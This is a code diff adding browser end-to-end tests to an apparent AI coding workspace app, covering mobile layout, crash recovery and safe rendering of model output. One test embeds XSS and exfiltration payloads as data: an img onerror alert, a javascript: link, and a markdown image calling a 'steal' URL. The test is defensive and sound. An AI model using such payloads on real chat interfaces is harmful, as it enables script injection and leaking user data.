@@ -40,8 +40,8 @@ async function signUp(): Promise<void> {
 }
 
 /** A person who has an account already and is signed in. */
-async function signedIn(): Promise<void> {
-  visit = await newVisit(browser, house.stack.appUrl);
+async function signedIn(size?: { width: number; height: number }): Promise<void> {
+  visit = await newVisit(browser, house.stack.appUrl, size);
   const { cookie } = await newCaller(house.stack);
   const cookies = cookie.split("; ").map((one) => {
     const at = one.indexOf("=");
@@ -162,5 +162,55 @@ describe("the main job", () => {
     await stopped.getByText("Stopped.").waitFor();
     await until("the same text", 20_000, async () => (await stopped.textContent()) === text);
     expect(await workspace.stop.count()).toBe(0);
+  });
+
+  it("fetches nothing that a model's text names, and runs none of it", async () => {
+    await signedIn();
+    const text =
+      "**Look**: ![secret](https://example.com/steal?canary) <img src=x onerror=alert(1)> and [here](javascript:alert(1)).";
+    const script = `\`\`\`script\n${JSON.stringify([{ text }])}\n\`\`\``;
+    const workspace = await startProject(script);
+    const turn = workspace.turn("completed");
+    await turn.locator("strong", { hasText: "Look" }).waitFor();
+    expect(await turn.locator("img").count()).toBe(0);
+    expect(await turn.locator('a[href^="javascript"]').count()).toBe(0);
+  });
+
+  it("shows a run to its end in an open page, though the runtime is killed in the middle", async () => {
+    await signedIn();
+    const { page, complaints } = visit;
+    const workspace = await startProject("[[five steps]] [[slow 15 ms]]");
+    const other = workspaceOf(await visit.context.newPage());
+    await other.page.goto(page.url());
+    await workspace.turn("running").getByText("Step 2 of 5: I write").waitFor();
+    house.stack.killWorkerd("workers");
+    for (const each of [workspace, other]) {
+      const turn = each.turn("completed");
+      await turn.waitFor({ timeout: 90_000 });
+      const text = (await turn.textContent()) ?? "";
+      for (const step of [1, 2, 3, 4, 5]) expect(text.split(`Step ${step} of 5: I write`)).toHaveLength(2);
+      expect(await turn.locator('[data-tool="write_files"]').count()).toBe(5);
+      expect(await each.page.getByText("Connecting again…").count()).toBe(0);
+    }
+    await picture(page, "6-after-a-crash");
+    // While nothing answers, a browser's console says so: that is all it may say.
+    complaints.splice(0, complaints.length, ...complaints.filter((one) => !one.startsWith("Failed to load resource")));
+  });
+
+  it("does all of it on a phone", { timeout: 60_000 }, async () => {
+    await signedIn({ width: 390, height: 844 });
+    const { page } = visit;
+    const workspace = await startProject(todoPrompt);
+    await workspace.turn("completed").waitFor({ timeout: 60_000 });
+    await picture(page, "7-phone-chat");
+    await workspace.tab("Preview");
+    await workspace.app().getByRole("textbox", { name: "What needs to be done?" }).waitFor();
+    await picture(page, "8-phone-preview");
+    await workspace.tab("Code");
+    await workspace.file("index.html").click();
+    await workspace.editor("index.html").waitFor();
+    await picture(page, "9-phone-code");
+    const width = "document.documentElement.scrollWidth";
+    expect(await page.evaluate(width)).toBe(390);
   });
 });
